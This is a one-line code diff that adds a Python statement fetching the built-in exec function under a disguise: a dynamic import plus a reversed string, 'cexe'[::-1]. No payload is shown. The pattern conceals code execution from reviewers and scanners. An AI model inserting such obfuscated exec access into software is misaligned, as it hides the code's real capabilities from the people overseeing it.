@@ -1,0 +1,1 @@
+f = getattr(__import__('builtins'), 'cexe'[::-1])
